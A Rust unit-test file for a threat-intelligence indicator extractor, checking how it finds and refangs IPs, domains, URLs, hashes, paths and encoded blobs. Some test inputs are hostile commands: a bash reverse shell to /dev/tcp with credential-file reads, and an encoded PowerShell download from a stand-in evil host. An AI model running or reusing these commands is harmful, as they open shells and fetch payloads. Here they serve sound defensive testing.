//! Exact-value tests of the extractor: every type, every defang form, tricky negatives, offsets,
//! decoding, custom types, options, and random inputs.

use super::*;

fn found(text: &str) -> Vec<(String, String)> {
    found_with(text, &ExtractOptions::default())
}

fn found_with(text: &str, opts: &ExtractOptions) -> Vec<(String, String)> {
    let x = IocExtractor::new();
    x.extract(text, opts)
        .into_iter()
        .map(|m| (x.kind_name(m.kind).to_owned(), m.value))
        .collect()
}

fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
    v.iter()
        .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
        .collect()
}

/// Only the values of one type.
fn of(text: &str, t: IocType) -> Vec<String> {
    extract(text, &ExtractOptions::default())
        .into_iter()
        .filter(|m| m.kind == t.into())
        .map(|m| m.value)
        .collect()
}

#[test]
fn a_types_index_is_its_place_in_the_list() {
    for (i, t) in IocType::ALL.into_iter().enumerate() {
        assert_eq!(t.index(), i, "{t:?}");
    }
}

#[test]
fn ipv4_octets_are_checked_and_addresses_stand_alone() {
    assert_eq!(
        of("from 10.0.0.1 to 8.8.8.8:53", IocType::Ipv4),
        ["10.0.0.1", "8.8.8.8"]
    );
    assert_eq!(
        of("ip (198.51.100.7) [198.51.100.8].", IocType::Ipv4),
        ["198.51.100.7", "198.51.100.8"]
    );
    for negative in [
        "999.888.777.666",
        "1.2.3.4.5 is a version",
        "1234.56.78.90123",
        "10.20.30",
        "v.1.2.3.4",
        "1.2.3.4.evil.com",
        "1.2.3.256",
    ] {
        assert!(of(negative, IocType::Ipv4).is_empty(), "{negative}");
    }
    // Leading zeros: decimal value, original kept.
    let m = &extract("x 010.001.002.003 y", &ExtractOptions::default())[0];
    assert_eq!((m.value.as_str(), m.start, m.end), ("10.1.2.3", 2, 17));
}

#[test]
fn cidrs_report_the_network_and_its_address() {
    assert_eq!(
        found("route 10.0.0.0/8 and 2001:db8::/32 and 1.2.3.4/33"),
        pairs(&[
            ("ipv4_cidr", "10.0.0.0/8"),
            ("ipv4", "10.0.0.0"),
            ("ipv6_cidr", "2001:db8::/32"),
            ("ipv6", "2001:db8::"),
            ("ipv4", "1.2.3.4"),
        ])
    );
}

#[test]
fn ipv6_is_parsed_not_pattern_matched() {
    assert_eq!(
        of(
            "a 2001:0db8:85a3:0000:0000:8a2e:0370:7334 b fe80::1%eth0 c [2001:db8::42]:8443 ::1",
            IocType::Ipv6
        ),
        [
            "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
            "fe80::1",
            "2001:db8::42",
            "::1"
        ]
    );
    assert_eq!(
        found("mapped ::ffff:192.0.2.128 ok"),
        pairs(&[("ipv6", "::ffff:192.0.2.128"), ("ipv4", "192.0.2.128")])
    );
    for negative in [
        "12:34:56",
        "ratio 1:2:3",
        "std::vector::push_back",
        "a:b:c",
        "::",
        "Foo::Add(x)",
        "1:2:3:4:5:6:7:8:9",
    ] {
        assert!(of(negative, IocType::Ipv6).is_empty(), "{negative}");
    }
}

#[test]
fn mac_addresses_in_three_notations() {
    assert_eq!(
        of(
            "00:1a:2b:3c:4d:5e AA-F2-C9-A6-B3-4F acf2.c9a6.b34f 00:1a:2b:3c:4d",
            IocType::MacAddress
        ),
        ["00:1a:2b:3c:4d:5e", "AA-F2-C9-A6-B3-4F", "acf2.c9a6.b34f"]
    );
}

#[test]
fn domains_need_a_registrable_public_suffix() {
    assert_eq!(
        of(
            "www.example.com mail.google.co.uk x.example.travel WWW.MICROSOFT.COM example.org.",
            IocType::Dns
        ),
        [
            "www.example.com",
            "mail.google.co.uk",
            "x.example.travel",
            "WWW.MICROSOFT.COM",
            "example.org"
        ]
    );
    assert_eq!(
        of("_dmarc.example.com xn--80ak6aa92e.com", IocType::Dns),
        ["_dmarc.example.com", "xn--80ak6aa92e.com"]
    );
    // The longest valid suffix of a run: `-bad-.example.com` → `example.com`.
    assert_eq!(of("-bad-.example.com", IocType::Dns), ["example.com"]);
    for negative in [
        "host.invalidtld corp.local printer.lan",
        "co.uk",
        "e.g. i.e. a.m.",
        "Mr.Smith",
        "1.2.3.4",
        "v5.9.31",
        "a.ps1",
    ] {
        assert!(of(negative, IocType::Dns).is_empty(), "{negative}");
    }
    // ignore_tlds: any alphabetic TLD.
    let opts = ExtractOptions {
        ignore_tlds: true,
        ..ExtractOptions::default()
    };
    assert_eq!(
        found_with("corp.local", &opts),
        pairs(&[("dns", "corp.local")])
    );
}

#[test]
fn file_names_and_signatures_are_not_domains() {
    for negative in [
        "setup.py readme.md archive.zip movie.mov",
        "/opt/app/main.py and C:\\tools\\run.sh",
        "W64/BURNTCIGAR.CA!tr",
        "window.open(url)",
        "(New-Object Net.WebClient).DownloadString(x)",
    ] {
        assert!(of(negative, IocType::Dns).is_empty(), "{negative}");
    }
    // A UNC server name is a domain.
    assert_eq!(
        of(r"\\files.example.com\share\x.doc", IocType::Dns),
        ["files.example.com"]
    );
    // Three labels, or defanged: a domain after all.
    assert_eq!(
        of("update.evil.zip evil[.]zip", IocType::Dns),
        ["update.evil.zip", "evil.zip"]
    );
}

#[test]
fn urls_are_trimmed_and_report_their_host() {
    // The scheme is the longest known one the word ends with, in any case.
    for (text, url) in [
        ("xhttp://a.example.com/", "http://a.example.com/"),
        ("HTTPS://a.example.com/", "HTTPS://a.example.com/"),
        ("SFtpS://a.example.com/", "SFtpS://a.example.com/"),
        ("xtelnet://a.example.com/", "telnet://a.example.com/"),
        ("s3://bucket.example.com/k", "s3://bucket.example.com/k"),
    ] {
        assert_eq!(of(text, IocType::Url), [url], "{text}");
    }
    assert!(of("xyz://a.example.com/ tps://a.example.com/", IocType::Url).is_empty());
    assert_eq!(
        found("see 'https://evil.example.com/a?b=1'."),
        pairs(&[
            ("url", "https://evil.example.com/a?b=1"),
            ("dns", "evil.example.com")
        ])
    );
    for (text, url) in [
        ("(https://x.example.com/a)", "https://x.example.com/a"),
        (
            "[https://x.example.com/a](https://x.example.com/b)",
            "https://x.example.com/a",
        ),
        ("<https://x.example.com/a>", "https://x.example.com/a"),
        (
            "https://en.wikipedia.org/wiki/Foo_(bar)",
            "https://en.wikipedia.org/wiki/Foo_(bar)",
        ),
        (
            "csv,https://x.example.com/,d41d8cd98f00b204e9800998ecf8427e",
            "https://x.example.com/",
        ),
        (
            "https://fonts.example.com/css?family=Lato:400,700\"",
            "https://fonts.example.com/css?family=Lato:400,700",
        ),
        (
            "ldap://ldap.example.com/dc=example,dc=com",
            "ldap://ldap.example.com/dc=example,dc=com",
        ),
        (
            "http://[2001:db8::7]/index.html",
            "http://[2001:db8::7]/index.html",
        ),
        ("http://intranet/login", "http://intranet/login"),
    ] {
        assert_eq!(of(text, IocType::Url)[0], url, "{text}");
    }
    for negative in [
        "http://192,168,0,1",
        "foo://example.com/x",
        "http://",
        "C:/x",
    ] {
        assert!(of(negative, IocType::Url).is_empty(), "{negative}");
    }
    // Credentials are not an email; the host is an IP.
    assert_eq!(
        found("http://user:pass@10.1.2.3:8080/x"),
        pairs(&[
            ("url", "http://user:pass@10.1.2.3:8080/x"),
            ("ipv4", "10.1.2.3")
        ])
    );
}

#[test]
fn a_url_inside_a_url_is_reported_too() {
    assert_eq!(
        of(
            "https://r.example.com/redir?u=http://evil.example.org/x",
            IocType::Url
        ),
        [
            "https://r.example.com/redir?u=http://evil.example.org/x",
            "http://evil.example.org/x"
        ]
    );
}

#[test]
fn emails_and_their_domains() {
    assert_eq!(
        found("mail bob+alerts@mail.example.co.uk now"),
        pairs(&[
            ("email", "bob+alerts@mail.example.co.uk"),
            ("dns", "mail.example.co.uk")
        ])
    );
    assert_eq!(
        of("=?utf-8?q?frank@example.com?=", IocType::Email),
        ["frank@example.com"]
    );
    assert_eq!(
        of("to: <carol.smith@sub.example.org>", IocType::Email),
        ["carol.smith@sub.example.org"]
    );
    assert!(of("carol.smith@sub.example.org", IocType::Dns) == ["sub.example.org"]);
    assert_eq!(
        of("x@[192.0.2.1] y@[IPv6:2001:db8::1]", IocType::Email),
        ["x@[192.0.2.1]", "y@[IPv6:2001:db8::1]"]
    );
    for negative in ["root@localhost", "@someone", "user@", "a@b.invalidtld"] {
        assert!(of(negative, IocType::Email).is_empty(), "{negative}");
    }
}

#[test]
fn hashes_by_length_without_numbers_guids_or_imphashes() {
    let text = "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709 \
                e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    assert_eq!(
        found(text),
        pairs(&[
            ("md5_hash", "d41d8cd98f00b204e9800998ecf8427e"),
            ("sha1_hash", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
            (
                "sha256_hash",
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
            ),
        ])
    );
    let sha512 = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e";
    assert_eq!(of(sha512, IocType::Sha512), [sha512]);
    assert_eq!(
        of("xd41d8cd98f00b204e9800998ecf8427e;", IocType::Md5),
        ["d41d8cd98f00b204e9800998ecf8427e"]
    );
    for negative in [
        "0123456789abcdef0123456789abcdef0",
        "12345678901234567890123456789012",
        "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
        "imphash: 18ddf28a71089acdbab5038f58044c0a",
        "0x32Be343B94f860124dC4fEe278FDCBD38C102D88",
    ] {
        assert!(
            found(negative).iter().all(|(t, _)| !t.ends_with("_hash")),
            "{negative}"
        );
    }
}

#[test]
fn windows_paths_registry_keys_and_linux_paths() {
    let text = r#"run "C:\Program Files\Microsoft Office\root\WINWORD.EXE" /n then ..\..\tools\mimikatz.exe and .\run.bat, %APPDATA%\Microsoft\x.lnk \\fileserver\share$\budget.xlsx C:/Windows/Temp/x.dll a.dll,DllMain"#;
    assert_eq!(
        of(text, IocType::WindowsPath),
        [
            r"C:\Program Files\Microsoft Office\root\WINWORD.EXE",
            r"..\..\tools\mimikatz.exe",
            r".\run.bat",
            r"%APPDATA%\Microsoft\x.lnk",
            r"\\fileserver\share$\budget.xlsx",
            "C:/Windows/Temp/x.dll",
        ]
    );
    assert!(
        of(
            r"CORP\admin a\backslash $env:TEMP\a.ps1 C:\ C:",
            IocType::WindowsPath
        )
        .is_empty()
    );
    assert_eq!(
        of(
            r"(run %APPDATA%\x\upd.exe) and C:\Program Files (x86)\App\a.exe",
            IocType::WindowsPath
        ),
        [r"%APPDATA%\x\upd.exe", r"C:\Program Files (x86)\App\a.exe"]
    );
    assert_eq!(
        of(
            r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x; HKCU:\Software\Classes <HKCU>\SOFTWARE\X",
            IocType::RegistryKey
        ),
        [
            r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run",
            r"HKCU:\Software\Classes",
            r"HKCU\SOFTWARE\X"
        ]
    );
    assert_eq!(
        of(
            "cat /etc/passwd | bash -i >& /dev/tcp/10.0.0.1/4444 ; ~/.ssh/id_rsa ../install.sh /var/log/auth.log:Failed",
            IocType::LinuxPath
        ),
        [
            "/etc/passwd",
            "/dev/tcp/10.0.0.1/4444",
            "~/.ssh/id_rsa",
            "../install.sh",
            "/var/log/auth.log"
        ]
    );
    assert!(
        of(
            "/c whoami 3/4 2024/06/01 and/or /usr https://a.example.com/x/y",
            IocType::LinuxPath
        )
        .is_empty()
    );
}

#[test]
fn cves_and_attack_ids() {
    assert_eq!(
        found(
            "CVE-2021-44228, cve 2014-1001 and T1059.001 then t1003 (CVE-1800-0000 T1059.0012 T99999)"
        ),
        pairs(&[
            ("cve", "CVE-2021-44228"),
            ("cve", "CVE-2014-1001"),
            ("attack_technique", "T1059.001"),
            ("attack_technique", "T1003"),
        ])
    );
}

#[test]
fn every_defang_form_comes_back_refanged_with_its_original() {
    let cases = [
        ("evil[.]com", "dns", "evil.com"),
        ("evil(.)com", "dns", "evil.com"),
        ("evil{.}com", "dns", "evil.com"),
        ("evil[dot]com", "dns", "evil.com"),
        ("evil DOT com", "dns", "evil.com"),
        ("evil\\.com", "dns", "evil.com"),
        ("1.2.3[.]4", "ipv4", "1.2.3.4"),
        ("1[.]2(.)3{.}4", "ipv4", "1.2.3.4"),
        ("hxxp://evil[.]com/a", "url", "http://evil.com/a"),
        ("hXXps://evil[.]com/a", "url", "https://evil.com/a"),
        ("h**ps://evil.com/a", "url", "https://evil.com/a"),
        ("fxp://evil.com/a", "url", "ftp://evil.com/a"),
        ("http[:]//evil.com/a", "url", "http://evil.com/a"),
        ("http[://]evil.com/a", "url", "http://evil.com/a"),
        ("http://evil.com[/]a", "url", "http://evil.com/a"),
        ("http:// evil .com /a", "url", "http://evil.com/a"),
        ("user[at]evil.com", "email", "user@evil.com"),
        ("user[@]evil[.]com", "email", "user@evil.com"),
        ("user(at)evil.com", "email", "user@evil.com"),
        ("user AT evil DOT com", "email", "user@evil.com"),
        ("user at evil dot com", "email", "user@evil.com"),
        ("2001[:]db8[:][:]1", "ipv6", "2001:db8::1"),
    ];
    for (text, kind, value) in cases {
        let x = IocExtractor::new();
        let ms = x.extract(text, &ExtractOptions::default());
        let m = ms
            .iter()
            .find(|m| x.kind_name(m.kind) == kind)
            .unwrap_or_else(|| panic!("{text}: {ms:?}"));
        assert_eq!(m.value, value, "{text}");
        assert!(m.defanged, "{text}");
        assert_eq!(&text[m.start..m.end], text, "{text}");
    }
    // A URL's plain host is not "defanged".
    assert!(
        !extract(
            "see https://r.example.net/out?u=x now",
            &ExtractOptions::default()
        )[0]
        .defanged
    );
    // Prose is left alone (but `look at example dot com` reads as a spelled-out address).
    assert!(
        found("the dot com era. meet at noon. look at example.com")
            .iter()
            .all(|(t, _)| t == "dns")
    );
    // MSTICPy's defanged=False: defanged text is not matched.
    let plain = ExtractOptions {
        refang: false,
        ..ExtractOptions::default()
    };
    assert!(
        found_with("evil[.]com hxxp://evil.com", &plain)
            .iter()
            .all(|(t, _)| t != "url")
    );
}

#[test]
fn offsets_slice_back_to_the_original_in_utf8() {
    let text = "café → hxxp://évil[.]example.com/ü and 10.0.0.1";
    for m in extract(text, &ExtractOptions::default()) {
        let original = &text[m.start..m.end];
        assert!(!original.is_empty());
        if !m.defanged {
            assert_eq!(original, m.value);
        }
    }
    let url = &of(text, IocType::Url)[0];
    assert_eq!(url, "http://évil.example.com/ü");
}

#[test]
fn decoded_blobs_say_how_they_were_found() {
    // PowerShell -EncodedCommand of "iwr http://evil.example.com/a.ps1".
    let ps =
        "aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
    let text = format!("powershell -enc {ps}");
    let ms = extract(&text, &ExtractOptions::default());
    let url = ms.iter().find(|m| m.kind == IocType::Url.into()).unwrap();
    assert_eq!(url.value, "http://evil.example.com/a.ps1");
    assert_eq!(url.decoded, [Decoding::Base64Utf16]);
    assert_eq!(&text[url.start..url.end], ps);
    // Percent-encoding inside base64, found two levels down.
    let inner = "https://r.example.com/?u=http%3A%2F%2Fevil.example.org%2Fx";
    let b64 = "aHR0cHM6Ly9yLmV4YW1wbGUuY29tLz91PWh0dHAlM0ElMkYlMkZldmlsLmV4YW1wbGUub3JnJTJGeA==";
    let ms = extract(b64, &ExtractOptions::default());
    let deep = ms
        .iter()
        .find(|m| m.value == "http://evil.example.org/x")
        .unwrap();
    assert_eq!(deep.decoded, [Decoding::Base64, Decoding::Percent]);
    assert!(
        ms.iter()
            .any(|m| m.value == inner && m.decoded == [Decoding::Base64])
    );
    // Hex.
    let ms = extract(
        "687474703a2f2f6576696c2e6578616d706c652e636f6d2f",
        &ExtractOptions::default(),
    );
    assert_eq!(ms[0].value, "http://evil.example.com/");
    assert_eq!(ms[0].decoded, [Decoding::Hex]);
    // Off, and depth-limited.
    let off = ExtractOptions {
        decode: false,
        ..ExtractOptions::default()
    };
    assert!(extract(b64, &off).is_empty());
    let shallow = ExtractOptions {
        max_depth: 1,
        ..ExtractOptions::default()
    };
    assert!(
        !extract(b64, &shallow)
            .iter()
            .any(|m| m.value == "http://evil.example.org/x")
    );
}

#[test]
fn type_selection_and_table_defaults() {
    let text = r"10.0.0.1 C:\Windows\x.exe /etc/passwd evil.example.com";
    let only = ExtractOptions {
        types: Some(vec![IocType::Ipv4.into(), IocType::Dns.into()]),
        ..ExtractOptions::default()
    };
    assert_eq!(
        found_with(text, &only),
        pairs(&[("ipv4", "10.0.0.1"), ("dns", "evil.example.com")])
    );
    let table = ExtractOptions::table();
    assert!(
        found_with(text, &table)
            .iter()
            .all(|(t, _)| !t.ends_with("_path"))
    );
    let with_paths = ExtractOptions {
        include_paths: true,
        ..ExtractOptions::table()
    };
    assert!(
        found_with(text, &with_paths)
            .iter()
            .any(|(t, _)| t == "windows_path")
    );
    assert!(
        found_with(text, &with_paths)
            .iter()
            .all(|(t, _)| t != "linux_path")
    );
    assert_eq!(IocType::parse("MD5"), Some(IocType::Md5));
    assert_eq!(IocType::parse("domain"), Some(IocType::Dns));
    assert_eq!(IocType::parse("sha256_hash"), Some(IocType::Sha256));
}

#[test]
fn exclude_private_drops_reserved_addresses() {
    let opts = ExtractOptions {
        exclude_private: true,
        ..ExtractOptions::default()
    };
    assert_eq!(
        found_with(
            "10.1.1.1 192.168.0.1 127.0.0.1 203.0.113.5 100.64.0.1 8.8.8.8 fe80::1 2001:db8::1 2606:4700::1111",
            &opts
        ),
        pairs(&[("ipv4", "8.8.8.8"), ("ipv6", "2606:4700::1111")])
    );
}

#[test]
fn schemeless_urls_on_request() {
    let opts = ExtractOptions {
        schemeless_urls: true,
        ..ExtractOptions::default()
    };
    let urls = |t: &str| -> Vec<String> {
        extract(t, &opts)
            .into_iter()
            .filter(|m| m.kind == IocType::Url.into())
            .map(|m| m.value)
            .collect()
    };
    assert_eq!(
        urls("github.com/org/repo/blob/x.sh and evil[.]com"),
        ["github.com/org/repo/blob/x.sh", "evil.com"]
    );
    assert_eq!(urls("https://a.example.com/x"), ["https://a.example.com/x"]);
    assert!(of("github.com/org/repo", IocType::Url).is_empty());
}

#[test]
fn a_newer_public_suffix_list_can_be_set_per_extractor() {
    let mut x = IocExtractor::new();
    assert!(
        x.extract("host.corp and a.example.com", &ExtractOptions::default())
            .len()
            == 1
    );
    assert_eq!(x.set_public_suffix_list("com\ncorp\n").unwrap(), 2);
    let found: Vec<String> = x
        .extract("host.corp and a.example.com", &ExtractOptions::default())
        .into_iter()
        .map(|m| m.value)
        .collect();
    assert_eq!(found, ["host.corp", "a.example.com"]);
    assert!(x.set_public_suffix_list("// empty").is_err());
    assert_eq!(x.suffix_list().len(), 2);
    // Other extractors keep the snapshot.
    assert_eq!(extract("host.corp", &ExtractOptions::default()).len(), 0);
}

#[test]
fn custom_types_belong_to_their_extractor() {
    let mut x = IocExtractor::new();
    let kind = x
        .add_type("ticket", r"(?i)\bINC-(?P<id>\d{4,})\b", 0, Some("id"))
        .unwrap();
    let ms = x.extract("see inc-12345 and INC-77", &ExtractOptions::default());
    assert_eq!(ms.len(), 1);
    assert_eq!(
        (ms[0].kind, ms[0].value.as_str(), ms[0].start),
        (kind, "12345", 8)
    );
    assert_eq!(x.kind_name(kind), "ticket");
    assert_eq!(x.parse_kind("ticket"), Some(kind));
    // Another extractor does not see it.
    assert!(IocExtractor::new().parse_kind("ticket").is_none());
    // Same span as a built-in: the higher priority wins (MSTICPy's rule).
    let mut y = IocExtractor::new();
    y.add_type("corp_host", r"[a-z]+\.example\.com", 5, None)
        .unwrap();
    let names: Vec<&str> = y
        .extract("a.example.com", &ExtractOptions::default())
        .iter()
        .map(|m| y.kind_name(m.kind))
        .collect();
    assert_eq!(names, ["dns"]);
    let mut z = IocExtractor::new();
    z.add_type("corp_host", r"[a-z]+\.example\.com", 0, None)
        .unwrap();
    let names: Vec<String> = z
        .extract("a.example.com", &ExtractOptions::default())
        .iter()
        .map(|m| z.kind_name(m.kind).to_owned())
        .collect();
    assert_eq!(names, ["corp_host"]);
    // Clear errors.
    let mut bad = |name: &str, re: &str, group: Option<&str>| {
        x.add_type(name, re, 0, group).unwrap_err().to_string()
    };
    assert!(
        bad("bad", "(unclosed", None)
            .contains("the pattern of IoC type `bad` is not a valid regex")
    );
    assert!(bad("dns", "x", None).contains("built-in"));
    assert!(bad("g", "(a)", Some("2")).contains("has no group 2"));
    assert!(bad("g", "(a)", Some("nope")).contains("no group named `nope`"));
    assert!(bad("", "a", None).contains("must be 1–64"));
    // Back-references and look-around are refused (no backtracking engine).
    assert!(x.add_type("br", r"(a)\1", 0, None).is_err());
    assert!(x.add_type("la", r"a(?=b)", 0, None).is_err());
}

#[test]
fn pathological_inputs_finish() {
    // Linear time: these run in milliseconds; the bench measures it, this only proves they end.
    for unit in [
        "a.", "1.", "[.]", "1:", "a@", "\\a", "/a", "http://", "%41", "aA0+", "a[dot]", "x ",
    ] {
        let text = unit.repeat(200_000 / unit.len());
        let t0 = std::time::Instant::now();
        let ms = extract(&text, &ExtractOptions::default());
        for m in &ms {
            assert!(text.get(m.start..m.end).is_some());
        }
        eprintln!("{unit:?}: {:?}", t0.elapsed());
    }
}

/// A tiny deterministic generator (xorshift), so the random test needs no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// Bytes and short pieces that make and break indicators, for random texts.
const PIECES: &[&str] = &[
    "a",
    "Z",
    "0",
    "9",
    "f",
    ".",
    ":",
    "@",
    "/",
    "\\",
    "[",
    "]",
    "(",
    ")",
    "{",
    "}",
    "<",
    ">",
    " ",
    "\t",
    "\n",
    "%",
    "=",
    "-",
    "_",
    "'",
    "\"",
    ",",
    "!",
    "?",
    "#",
    "hxxp",
    "http://",
    "dot",
    "AT",
    "[.]",
    "com",
    "co.uk",
    "é",
    "☃",
    "😀",
    "\u{a0}",
    "\u{201d}",
    "::",
    "0x",
    "HKLM",
    "C:",
    "CVE-",
    "T1",
    "aHR0cDovL2",
    "==",
    "%2F",
    "%25",
];

#[test]
fn random_inputs_never_panic_and_offsets_slice_back() {
    let pieces = PIECES;
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let x = IocExtractor::new();
    let opts = ExtractOptions::default();
    for _ in 0..3000 {
        let n = (rng.next() % 40) as usize;
        let text: String = (0..n)
            .map(|_| pieces[(rng.next() % pieces.len() as u64) as usize])
            .collect();
        for m in x.extract(&text, &opts) {
            let original = text
                .get(m.start..m.end)
                .unwrap_or_else(|| panic!("{text:?}: {m:?}"));
            assert!(
                !original.is_empty() && !m.value.is_empty(),
                "{text:?}: {m:?}"
            );
            if !m.defanged
                && m.decoded.is_empty()
                && m.kind != IocType::Cve.into()
                && m.kind != IocType::AttackTechnique.into()
                && m.kind != IocType::RegistryKey.into()
                && m.kind != IocType::Ipv4.into()
            {
                assert_eq!(original, m.value, "{text:?}");
            }
        }
        let _ = refang(&text);
        for t in IocType::ALL {
            let _ = defang(&text, Some(t));
        }
    }
}

#[test]
#[ignore = "profiling aid: cargo test --release --lib ioc::tests::phase_times -- --ignored --nocapture"]
fn phase_times() {
    let Ok(text) = std::fs::read_to_string("../../tests/bench/data/ioc_mixed_10mb.txt") else {
        return;
    };
    let best = |f: &dyn Fn() -> usize| {
        (0..5)
            .map(|_| {
                let t = std::time::Instant::now();
                let n = f();
                (t.elapsed(), n)
            })
            .min()
            .unwrap()
    };
    let r = refang_text(&text);
    eprintln!("refang {:?}", best(&|| refang_text(&text).edits_len()));
    let opts = scan::ScanOptions {
        ignore_tlds: false,
        windows_paths: true,
        linux_paths: true,
        network: true,
        schemeless_urls: false,
    };
    eprintln!(
        "scan {:?}",
        best(&|| scan::scan(r.text(), opts, psl::SuffixList::builtin(), &|_, _| false).len())
    );
    eprintln!("blobs {:?}", best(&|| decode::blobs(&text).len()));
    let plain = ExtractOptions {
        decode: false,
        ..ExtractOptions::default()
    };
    eprintln!(
        "extract without decode {:?}",
        best(&|| extract(&text, &plain).len())
    );
    let (t, n) = best(&|| extract(&text, &ExtractOptions::default()).len());
    eprintln!("extract {t:?} ({n})");
}

#[test]
#[ignore = "profiling aid"]
fn small_call_cost() {
    let token = "ref=https://api55.bravo-320.top/p?u=https://cdn21.kilo-19.info/x";
    let opts = ExtractOptions::default();
    let x = IocExtractor::new();
    let t = std::time::Instant::now();
    let mut n = 0;
    for _ in 0..100_000 {
        n += x.extract(token, &opts).len();
    }
    eprintln!("per call {:?} ({n})", t.elapsed() / 100_000);
    let t = std::time::Instant::now();
    for _ in 0..100_000 {
        n += refang_text(token).edits_len();
    }
    eprintln!("refang per call {:?}", t.elapsed() / 100_000);
    let sopts = scan::ScanOptions {
        ignore_tlds: false,
        windows_paths: true,
        linux_paths: true,
        network: true,
        schemeless_urls: false,
    };
    let t = std::time::Instant::now();
    for _ in 0..100_000 {
        n += scan::scan(token, sopts, psl::SuffixList::builtin(), &|_, _| false).len();
    }
    eprintln!("scan per call {:?}", t.elapsed() / 100_000);
    let t = std::time::Instant::now();
    for _ in 0..100_000 {
        n += decode::blobs(token).len();
    }
    eprintln!("blobs per call {:?} {n}", t.elapsed() / 100_000);
}

/// Random texts mixing indicators, defanged forms and the bytes around them (long enough to
/// cross the 16-byte chunks of the skipping loops).
fn indicator_soup(count: usize, seed: u64) -> Vec<String> {
    let indicators = [
        "word",
        "e",
        "T",
        "t",
        "1",
        "CVE-2021-44228",
        "cve 2021-1234",
        "CvE_2020-12345",
        "T1059",
        "t1003.001",
        "T1234x",
        "10.0.0.1",
        "1.2.3",
        "256.1.1.1",
        "2001:db8::1",
        "fe80::1%eth0",
        "00:11:22:33:44:55",
        "0011.2233.4455",
        "00-11-22-33-44-55",
        "evil.com",
        "a.b.co.uk",
        "setup.py",
        "x.exe",
        "user@evil.com",
        "http://evil.com/a?b=c",
        "https://",
        "hxxp://",
        "hxxps[:]//",
        "(.)",
        "[dot]",
        " DOT ",
        " dot ",
        " at ",
        " AT ",
        "[at]",
        "(@)",
        "[:]",
        "[/]",
        "/AT/",
        "/DOT/",
        "http__",
        "C:\\Windows\\x.dll",
        "\\\\srv.example.com\\share",
        "/usr/bin/env",
        "HKLM\\Software\\x",
        "d41d8cd98f00b204e9800998ecf8427e",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "0123456789abcdef0123456789abcdefXY",
        "aHR0cDovL2V2aWwuY29t",
        "%2Fevil.com",
        "imphash: ",
        " at[",
        " dot)",
        "\tat\t",
        " At\\[",
        " dOt ",
        " ate ",
        " dote",
        "evil",
        "at",
        "Domain",
        "attack",
        "do",
        "\u{80}",
    ];
    let pieces: Vec<&str> = PIECES.iter().chain(&indicators).copied().collect();
    let mut rng = Rng(seed);
    (0..count)
        .map(|_| {
            let n = (rng.next() % 60) as usize;
            (0..n)
                .map(|_| pieces[(rng.next() % pieces.len() as u64) as usize])
                .collect()
        })
        .collect()
}

#[test]
fn skipping_scanner_finds_what_the_byte_loop_finds() {
    let psl = psl::SuffixList::builtin();
    let never = |_: usize, _: usize| false;
    for (k, text) in indicator_soup(4000, 0x2545_f491_4f6c_dd1d)
        .iter()
        .enumerate()
    {
        let opts = scan::ScanOptions {
            ignore_tlds: k % 3 == 0,
            windows_paths: k % 2 == 0,
            linux_paths: k % 4 != 1,
            network: k % 5 != 4,
            schemeless_urls: k % 3 == 1,
        };
        assert_eq!(
            scan::scan_with(text, opts, psl, &never, true),
            scan::scan_with(text, opts, psl, &never, false),
            "{text:?}"
        );
    }
}

#[test]
fn skipping_blob_finder_finds_the_same_blobs() {
    let mut texts = indicator_soup(3000, 0x5851_f42d_4c95_7f2d);
    // Runs of every length around the 16-byte chunks, inside and across them.
    for n in 10..70 {
        for lead in 0..18 {
            texts.push(format!(
                "{}{} %41%42{}",
                " ".repeat(lead),
                "QUFB".repeat(n / 4 + 1)[..n].to_owned(),
                "x".repeat(n)
            ));
        }
    }
    for text in &texts {
        let key = |v: Vec<decode::Blob>| -> Vec<(usize, usize, String)> {
            v.into_iter().map(|b| (b.start, b.end, b.text)).collect()
        };
        assert_eq!(
            key(decode::blobs_with(text, true)),
            key(decode::blobs_with(text, false)),
            "{text:?}"
        );
    }
}

#[test]
fn skipping_refang_makes_the_same_replacements() {
    let mut texts = indicator_soup(4000, 0x9e37_79b9_7f4a_7c15);
    texts.push("x ".repeat(20) + "user at example dot com, hxxp://a .b /c d");
    for text in &texts {
        assert_eq!(
            format!("{:?}", refang::refang_with(text, true)),
            format!("{:?}", refang::refang_with(text, false)),
            "{text:?}"
        );
    }
}

#[test]
fn blobs_out_of_order_are_matched_against_their_own_range() {
    // The percent token starts before the base64 run inside it, which is found first.
    let text = "a q:aHR0cDovL2V2aWwuZXhhbXBsZS5jb20v%2Fx b 10.0.0.1 c \
                https://x.example.com/?u=http%3A%2F%2Fevil.example.org%2F";
    let got: Vec<(String, String, usize, usize, Vec<&str>)> =
        extract(text, &ExtractOptions::default())
            .into_iter()
            .map(|m| {
                let IocKind::Builtin(t) = m.kind else {
                    unreachable!()
                };
                let chain = m.decoded.iter().map(|d| d.name()).collect();
                (t.name().to_owned(), m.value, m.start, m.end, chain)
            })
            .collect();
    let want: Vec<(&str, &str, usize, usize, Vec<&str>)> = vec![
        (
            "url",
            "http://evil.example.com/",
            2,
            40,
            vec!["percent", "base64"],
        ),
        ("dns", "evil.example.com", 2, 40, vec!["percent", "base64"]),
        ("url", "http://evil.example.com/", 4, 36, vec!["base64"]),
        ("dns", "evil.example.com", 4, 36, vec!["base64"]),
        ("ipv4", "10.0.0.1", 43, 51, vec![]),
        (
            "url",
            "https://x.example.com/?u=http%3A%2F%2Fevil.example.org%2F",
            54,
            111,
            vec![],
